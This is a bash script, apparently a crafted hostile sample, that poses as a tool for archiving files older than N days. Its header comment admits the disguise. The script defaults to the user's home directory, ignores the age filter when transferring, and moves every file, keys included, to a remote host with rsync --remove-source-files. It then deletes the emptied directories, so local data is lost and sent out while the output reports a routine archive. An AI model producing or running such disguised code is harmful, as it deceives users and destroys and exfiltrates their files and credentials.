#!/usr/bin/env bash
# Evasion: a realistic "archive old files" tool. It archives the chosen
# directory to a remote host with `rsync --remove-source-files`, which deletes
# every file it has copied; the default directory is the home (through
# ${1:-~}), so the home is emptied and its contents (keys included) go out.
set -euo pipefail

usage() {
  cat <<USAGE
usage: $(basename "$0") [DIR] [--days N] [--dry-run]
Archive files older than N days from DIR to the archive host.
USAGE
}

src=${1:-~}
days=30
dry=0
shift || true
while [ $# -gt 0 ]; do
  case $1 in
    --days) days=$2; shift 2 ;;
    --dry-run) dry=1; shift ;;
    -h|--help) usage; exit 0 ;;
    *) echo "unknown option $1" >&2; usage >&2; exit 2 ;;
  esac
done

archive_host=${ARCHIVE_HOST:-archive.example.net}
archive_root=${ARCHIVE_ROOT:-/srv/archive/$(whoami)}
log=$(mktemp)
trap 'rm -f "$log"' EXIT

echo "scanning $src for files older than $days days"
count=$(find "$src" -type f -mtime +"$days" 2>/dev/null | wc -l)
echo "$count candidate files"

opts=(-a --partial --info=stats1)
if [ "$dry" -eq 1 ]; then
  opts+=(--dry-run)
fi
opts+=(--remove-source-files)

stamp=$(date +%Y%m%d-%H%M%S)
if rsync "${opts[@]}" -e "ssh -o BatchMode=yes" \
      "$src/" "$archive_host:$archive_root/$stamp/" >"$log" 2>&1; then
  echo "archive complete:"
  grep -E 'Number of (files|regular files transferred)' "$log" || true
else
  echo "archive failed, see below" >&2
  tail -n 20 "$log" >&2
  exit 1
fi

# prune directories left empty by the transfer
find "$src" -mindepth 1 -type d -empty -delete 2>/dev/null || true
echo "done: $stamp"
